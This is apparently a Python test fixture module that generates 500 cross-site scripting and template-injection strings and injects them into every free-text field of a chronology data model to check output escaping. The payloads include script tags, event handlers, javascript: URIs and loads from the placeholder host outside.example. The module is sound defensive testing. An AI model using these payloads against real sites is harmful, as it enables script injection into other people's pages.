"""Texts that would run or load something if a page took them for markup, and a case that holds one in every field.

`ATTACKS` are 500: 25 ways to run a script or to ask another machine for something, each behind 20 beginnings that would
end what it stands in. A page that takes one of them for more than text sets `ran`, or asks `outside.example`.
"""

from __future__ import annotations

import re
from dataclasses import fields, is_dataclass, replace
from typing import Any

from dateline import model
from dateline.model import Chronology, Judged, Judgement, Pointed, Report, Span

RUN = "top.ran=1"
OUTSIDE = "http://outside.example"
BODIES = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<iframe src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>", f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}>", f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>", f"<math><mi xlink:href=javascript:{RUN}>x",
    f"<link rel=stylesheet href={OUTSIDE}/>",
    f"<meta http-equiv=refresh content=0;url={OUTSIDE}/>", f"<base href={OUTSIDE}/>",
    f"<form action={OUTSIDE}/><button>x", f"<style>@import '{OUTSIDE}/';*{{background:url({OUTSIDE}/)}}</style>",
    f"<img srcset={OUTSIDE}/1x>", f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f" onmouseover={RUN} style=background:url({OUTSIDE}/) x=", f"<animate onbegin={RUN}>", f"<marquee onstart={RUN}>",
    f"<script src={OUTSIDE}/x.js></script>", f"{{{{7*7}}}}<%={RUN}%>${{{RUN}}}{{% raw %}}",
)  # fmt: skip
BEGINNINGS = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", '\\"', "`", "\x00", "\u202e",
    "&lt;", "&#60;", "%3C", "</svg>", "</a>", "</bdi>", "\n",
)  # fmt: skip
ATTACKS = tuple(beginning + body for beginning in BEGINNINGS for body in BODIES)
# Each body and each beginning once: what is tried at every change.
SLICE = tuple(BEGINNINGS[number % len(BEGINNINGS)] + body for number, body in enumerate(BODIES))

# Of each noun the words that come from outside, or are made of such: these are poisoned. What is not named here is an
# id, a day, or one of a closed set of words; a test holds both lists against the model.
FREE: dict[str, tuple[str, ...]] = {
    "Report": ("source", "address", "media_type", "title", "outlet", "author", "url"),
    "Stamp": ("field", "value"),
    "Dates": ("why",),
    "TimeMention": ("value", "anchor"),
    "ActorMention": ("key", "name", "country", "of"),
    "PlaceMention": ("name", "country", "kind"),
    "ChainLink": ("text",),
    "EventMention": ("type", "mode", "lemma", "label"),
    "Quantity": ("what", "unit"),
    "CountClaim": ("what",),
    "CalendarSlip": ("explanation",),
    "TimeOrder": ("elapsed",),
    "Actor": ("name", "aliases", "country"),
    "ActorRole": ("title", "of"),
    "Place": ("name", "as_written", "country", "kind"),
    "Event": ("label", "type", "mode"),
    "EventEvidence": ("why",),
    "Origin": ("name", "why"),
    "OriginLink": ("first", "second", "why"),
    "ValueSupport": ("value",),
    "Value": ("value", "given_by"),
    "Discrepancy": ("explanation",),
    "Copy": ("why",),
    "Reason": ("text",),
    "Judgement": ("values", "author", "reason"),
    "Pointed": ("sentence",),
    "Judged": ("note",),
    "Rejection": ("source", "address", "reason", "explanation", "advice"),
    "Counted": ("why",),
}
FIXED = frozenset(
    "id report reports event actor place attribution mention mentions copy original versions withdraws against left_out"
    " raw_sha256 earliest latest day as_of time to likely_day meaning".split()
)


def text_fields() -> dict[str, list[str]]:
    """Of each noun that a chronology is made of, the fields that hold free text."""
    found: dict[str, list[str]] = {}

    def look(kind: type) -> None:
        if kind.__name__ in found:
            return
        found[kind.__name__] = []
        for field in fields(kind):
            said = str(field.type)
            if re.fullmatch(r"str( \| None)?|tuple\[str, \.\.\.\]", said):
                found[kind.__name__].append(field.name)
            for name in re.findall(r"\b[A-Z]\w+", said):
                inner = getattr(model, name, None)
                if isinstance(inner, type) and is_dataclass(inner):
                    look(inner)

    look(Chronology)
    return found


def poisoned(chronology: Chronology, text: str) -> Chronology:
    """The case with this text in every field that comes from outside, and in every word of its reports."""
    maps = {read.report.id: _Stuffed(read.report, text) for read in chronology.reports}
    dirty = _dirty(chronology, text, maps)
    assert isinstance(dirty, Chronology)
    return dirty


class _Stuffed:
    """A report's text with the attack after the first letter of each word, so that it is in every span that is cut."""

    def __init__(self, report: Report, attack: str) -> None:
        starts = {found.start() + 1 for found in re.finditer(r"\w+", report.text)}
        self.at, text = [], ""
        for place, letter in enumerate(report.text):
            self.at.append(len(text))
            text += (attack if place in starts else "") + letter
        self.at.append(len(text))
        self.text = text

    def span(self, span: Span) -> Span:
        start, end = self.at[span.start], self.at[span.end]
        return Span(span.report, start, end, self.text[start:end])


def _dirty(value: Any, attack: str, maps: dict[str, _Stuffed]) -> Any:
    if isinstance(value, Span):
        return maps[value.report].span(value)
    if isinstance(value, tuple):
        return tuple(_dirty(one, attack, maps) for one in value)
    if not is_dataclass(value) or isinstance(value, type):
        return value
    changed: dict[str, Any] = {}
    free = FREE.get(type(value).__name__, ())
    for field in fields(value):
        held = getattr(value, field.name)
        if field.name in free:
            changed[field.name] = (attack,) * len(held) if isinstance(held, tuple) else attack
        elif isinstance(value, Report) and field.name == "text":
            changed["text"] = maps[value.id].text
        else:
            changed[field.name] = _dirty(held, attack, maps)
    return type(value)(**changed)


def judged(chronology: Chronology, text: str, standing: str = "holds") -> Chronology:
    """The case with a correction, and with a settled discrepancy, that hold this text."""
    mention = chronology.derived.events[0].evidence[0].mention
    pointed = Pointed(mention.id, mention.trigger, mention.sentence.quote)
    made = Judgement("j1a", "label", "event", ((pointed,),), (text,), text, "2026-03-09T10:00:00+00:00", text)
    one = Judged(made, standing, text, ((mention.id,),))  # type: ignore[arg-type]
    dispute = chronology.derived.discrepancies[0]
    sides = tuple((Pointed(dispute.id, value.spans[0], text),) for value in dispute.values)
    values = (dispute.kind, text, f"figure: {text}: 1")
    when = "2026-03-09T10:00:00+00:00"
    said = Judgement("j1b", "stands", "discrepancy", (*sides, (pointed,)), values, text, when, text)
    other = Judged(said, standing, text, (*((dispute.id,) for _ in sides), (mention.id,)))  # type: ignore[arg-type]
    return replace(chronology, derived=replace(chronology.derived, judged=(one, other)))
